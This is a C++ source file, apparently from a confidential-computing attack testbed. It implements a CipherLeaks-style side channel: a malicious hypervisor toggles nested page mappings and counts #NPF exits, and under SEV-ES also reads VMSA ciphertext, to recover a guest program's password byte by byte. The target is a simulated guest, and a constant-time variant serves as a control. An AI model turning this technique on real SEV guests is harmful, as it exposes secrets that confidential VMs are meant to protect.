// CipherLeaks against a password check in a guest program; cipherleaks_password.h has the
// contract.
#include "attacks/cipherleaks_password.h"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <optional>
#include <set>

#include "common/error.h"
#include "sw/hv/vm.h"
#include "x86/elf_image.h"
#include "x86/elf_symbols.h"

namespace cbit::attacks {
namespace {

using Block = std::array<uint8_t, 16>;
constexpr uint64_t kRaxBlock = 0x1F0;  // VMSA: 0x1F0 (reserved) | RAX 0x1F8

struct Trace {
  unsigned exits = 0;          // #NPF exits on the two frames
  std::set<Block> rax_blocks;  // the RAX block's ciphertexts at those exits (SEV-ES)
  bool granted = false;
  std::string failure;  // the guest did not run the program to its end
};

// The index of va's page among the program's image pages in ascending order: the order in which
// the guest kernel's ELF loader allocates their frames (x86::Process::load maps them so).
std::optional<size_t> image_page_index(const x86::ElfImage& img, uint64_t va) {
  std::set<uint64_t> pages;
  for (const auto& seg : img.segments) {
    const uint64_t end = (seg.vaddr.value + seg.memsz + kPageSize - 1) & kPageMask;
    for (uint64_t p = seg.vaddr.value & kPageMask; p < end; p += kPageSize) pages.insert(p);
  }
  const auto it = pages.find(va & kPageMask);
  if (it == pages.end()) return std::nullopt;
  return static_cast<size_t>(std::distance(pages.begin(), it));
}

struct Frames {
  GuestPhysAddr gpa[2];  // typed, stored
};

// One run of the checker with `guess` in a fresh VM. With `frames`, the hypervisor alternates
// the two frames' nested mappings and records each exit.
Trace run_once(HostAttacker& a, SevMode mode, const PasswordTarget& t, const std::string& guess,
               const Frames* frames, std::vector<GuestPhysAddr>* user_pages = nullptr) {
  sw::hv::GuestProgram p = t.program;
  p.argv.resize(1);
  p.argv.push_back(guess);
  auto vm = a.hypervisor().launch_vm(mode, t.ram, sw::hv::guest_program_disk(p));
  const bool es = mode == SevMode::SevEs || mode == SevMode::Snp;
  Trace tr;
  if (frames) {
    SysPhysAddr spa[2];
    for (int i = 0; i < 2; ++i) {
      const auto s = vm->memory().gpa_to_spa(frames->gpa[i]);
      if (!s) throw InputError("cipherleaks-password: a frame is outside the guest's memory");
      spa[i] = *s;
    }
    vm->on_npf = [&](sw::hv::Vcpu& vcpu, uint64_t gpa, uint64_t) {
      const uint64_t page = gpa & kPageMask;
      const int which = page == frames->gpa[0].value ? 0 : page == frames->gpa[1].value ? 1 : -1;
      if (which < 0) return false;
      ++tr.exits;
      if (es) {
        const Bytes b = a.read_as_stored(SysPhysAddr(vcpu.vmsa_pa().value + kRaxBlock), 16);
        Block blk{};
        std::copy_n(b.begin(), blk.size(), blk.begin());
        tr.rax_blocks.insert(blk);
      }
      vm->npt().map_page(frames->gpa[which], spa[which], true, true);
      vm->npt().unmap_page(frames->gpa[1 - which]);
      return true;
    };
    for (const auto& g : frames->gpa) vm->npt().unmap_page(g);
  }
  const auto r = sw::hv::run_guest_program(*vm, p);
  vm->on_npf = nullptr;
  if (r.failure) tr.failure = *r.failure;
  tr.granted =
      !r.failure && r.exit_code == 0 && r.output.find("access granted") != std::string::npos;
  if (user_pages) *user_pages = r.user_pages;
  return tr;
}

}  // namespace

SevAttackResult cipherleaks_password(HostAttacker& attacker, SevMode mode,
                                     const PasswordTarget& t) {
  SevAttackResult res;
  res.attack = "cipherleaks-password";
  res.mode = mode;
  auto& ev = res.evidence;
  if (t.alphabet.empty()) throw InputError("cipherleaks-password: the alphabet is empty");

  // The frames behind the two buffers, from a profiling run (see the header).
  const auto img = x86::ElfImage::parse(t.program.elf, t.program.argv.at(0));
  const auto ti = image_page_index(img, t.typed_va), si = image_page_index(img, t.stored_va);
  if (!ti || !si || *ti == *si)
    throw InputError("cipherleaks-password: the buffers must lie on two pages of the image");
  std::vector<GuestPhysAddr> pages;
  const Trace profile = run_once(attacker, mode, t, std::string(1, t.alphabet[0]), nullptr, &pages);
  if (!profile.failure.empty() || pages.size() <= std::max(*ti, *si)) {
    res.verdict = Verdict::Error;
    res.got = "profiling run failed";
    res.detail = profile.failure;
    return res;
  }
  const Frames frames{{pages[*ti], pages[*si]}};
  ev["frames"] = {fmt::format("{:#x}", frames.gpa[0].value),
                  fmt::format("{:#x}", frames.gpa[1].value)};

  // The search: extend the known prefix by one byte per round. Wrong candidates stop the compare
  // at the same place, so as soon as two candidates' exits differ, the one with more is right;
  // when every candidate gives the same exits, the program does not leak through them.
  std::string known;
  unsigned runs = 1;
  bool granted = false;
  nlohmann::json per_pos = nlohmann::json::array();
  std::optional<size_t> first_distinct;
  while (known.size() < t.max_len && !granted) {
    nlohmann::json row = nlohmann::json::object();
    std::optional<char> found;
    unsigned first_n = 0;
    for (size_t i = 0; i < t.alphabet.size() && !found && !granted; ++i) {
      const char c = t.alphabet[i];
      const Trace tr = run_once(attacker, mode, t, known + c, &frames);
      ++runs;
      if (!tr.failure.empty()) {
        res.verdict = Verdict::Error;
        res.got = "guest failed";
        res.detail = tr.failure;
        return res;
      }
      row[std::string(1, c)] = tr.exits;
      if (known.empty() && i == 0) first_distinct = tr.rax_blocks.size();
      if (tr.granted) {
        known += c;
        granted = true;
      } else if (i == 0) {
        first_n = tr.exits;
      } else if (tr.exits != first_n) {
        found = tr.exits > first_n ? c : t.alphabet[0];
      }
    }
    per_pos.push_back(row);
    if (granted || !found) break;
    known += *found;
  }
  const bool es = mode == SevMode::SevEs || mode == SevMode::Snp;
  ev["method"] = "#NPF exits on the two buffers' frames (alternating nested mappings)";
  ev["recovered"] = known;
  ev["granted"] = granted;
  ev["runs"] = runs;
  ev["exits_per_position"] = per_pos;
  if (es && first_distinct) ev["distinct_rax_ciphertexts"] = *first_distinct;
  res.verdict = granted ? Verdict::Succeeded : Verdict::Blocked;
  res.got = granted ? fmt::format("password \"{}\"", known)
                    : fmt::format("{} byte(s) of prefix", known.size());
  res.detail = fmt::format("{} runs; recovered \"{}\"{}; exits at the first position: {}", runs,
                           known, granted ? " (the program accepts it)" : "",
                           per_pos.empty() ? "-" : per_pos[0].dump());
  return res;
}

SevAttackResult cipherleaks_password_example(HostAttacker& attacker, SevMode mode,
                                             bool constant_time) {
  PasswordTarget t;
  t.program = sw::hv::guest_program(constant_time ? "password_ct" : "password_memcmp");
  const auto typed = x86::elf_symbol(t.program.elf, "typed");
  const auto stored = x86::elf_symbol(t.program.elf, "stored");
  if (!typed || !stored)
    throw InputError(t.program.source + ": no symbols 'typed' and 'stored' (a stripped binary?)");
  t.typed_va = *typed;
  t.stored_va = *stored;
  auto r = cipherleaks_password(attacker, mode, t);
  if (constant_time) r.attack = "cipherleaks-password-ct";
  return r;
}

}  // namespace cbit::attacks
